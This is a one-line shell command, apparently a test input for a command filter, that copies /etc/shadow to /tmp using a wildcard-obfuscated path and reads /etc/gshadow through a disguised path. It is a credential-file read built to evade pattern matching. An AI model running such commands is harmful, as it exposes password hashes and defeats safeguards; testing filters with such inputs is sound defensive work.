cat /e*c/sha*ow > /tmp/a; head -c 100 /./etc/../etc/gshadow
